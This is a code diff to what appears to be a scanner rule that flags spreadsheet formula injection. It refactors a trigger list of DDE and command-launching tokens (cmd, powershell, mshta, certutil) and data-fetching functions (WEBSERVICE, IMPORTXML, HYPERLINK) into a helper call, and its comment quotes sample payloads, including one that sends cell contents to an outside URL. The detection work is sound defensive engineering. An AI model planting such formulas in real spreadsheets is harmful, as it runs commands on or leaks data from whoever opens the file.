@@ -1,5 +1,6 @@
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
+import { wordList } from '../../text/words.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
 /** `=cmd|'/c calc'!A0`, `=WEBSERVICE("http://x/"&A1)`: cells that act when a sheet is opened. */
@@ -12,31 +13,16 @@ export const formula: ValueRule = {
   trigger: {
     literals: [
       [
-        'cmd|',
-        'cmd.exe|',
-        'msexcel|',
-        'powershell|',
-        'mshta|',
-        'rundll32|',
-        'regsvr32|',
-        'wscript|',
-        'certutil|',
-        'calc|',
+        ...wordList(
+          'cmd| cmd.exe| msexcel| powershell| mshta| rundll32| regsvr32| wscript| certutil|',
+          'calc|',
+        ),
         "!'",
         "|'",
-        'hyperlink(',
-        'webservice(',
-        'importxml(',
-        'importdata(',
-        'importfeed(',
-        'importhtml(',
-        'importrange(',
-        'image(',
-        'dde(',
-        '=exec(',
-        '=call(',
-        '=register(',
-        'register.id(',
+        ...wordList(
+          'hyperlink( webservice( importxml( importdata( importfeed( importhtml(',
+          'importrange( image( dde( =exec( =call( =register( register.id(',
+        ),
       ],
     ],
   },
